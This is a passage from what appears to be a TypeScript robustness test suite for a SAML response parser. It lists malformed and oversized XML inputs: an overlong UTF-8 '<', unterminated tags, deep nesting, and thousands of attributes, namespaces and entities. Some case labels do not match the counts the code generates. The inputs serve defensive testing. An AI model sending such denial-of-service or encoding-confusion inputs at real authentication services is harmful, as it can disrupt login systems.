  odd('an overlong sequence', (xml) => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(xml.slice(1))])),
  odd('nothing', () => ''),
  odd('blanks', () => '   '),
  odd('a tag that never ends', () => '<'.repeat(60_000)),
  odd('an attribute that never ends', () => `<a b="${'x'.repeat(60_000)}`),
  odd('60,000 blanks in a tag', () => `<a${' '.repeat(60_000)}`),
  odd('10,000 attributes', () => `<a${Array.from({ length: 7000 }, (_, place) => ` b${place}=""`).join('')}/>`),
  odd('10,000 elements', () => `<a>${'<b/>'.repeat(10_000)}</a>`),
  odd('10,000 levels', () => '<a>'.repeat(10_000) + '</a>'.repeat(5000)),
  odd('10,000 namespaces', () => `<a${Array.from({ length: 2500 }, (_, place) => ` xmlns:n${place}="urn:${place}"`).join('')}/>`),
  odd('300 namespaces, 30 on each of ten levels around 400 elements', (xml) => {
    const level = (depth: number) => `<saml:x${Array.from({ length: 30 }, (_, place) => ` xmlns:n${depth}-${place}="urn:x"`).join('')}>`
    const levels = Array.from({ length: 10 }, (_, depth) => level(depth)).join('')
    return xml.replace('</saml:Assertion>', `${levels}${'<saml:y/>'.repeat(400)}${'</saml:x>'.repeat(10)}</saml:Assertion>`)
  }),
  odd('10,000 entities', () => `<a>${'&amp;'.repeat(12_000)}</a>`),
  odd('10,000 entities that nobody knows', () => `<a>${'&'.repeat(60_000)}</a>`),
  odd('a good answer of over 64 KiB', (xml) => xml.replace('</samlp:Response>', `${' '.repeat(66_000)}</samlp:Response>`)),
  odd('a good answer with 60 KB of blanks in it', (xml) => xml.replace('</samlp:StatusCode>', `</samlp:StatusCode>${' '.repeat(50_000)}x`)),
  odd('a name of 60 KB', (_, said) => signed({ ...said, nameId: 'x'.repeat(55_000) })),
  odd('JSON', () => '{"Response":{}}'),
  odd('HTML', () => '<html><body>SAML</body></html>'),
]
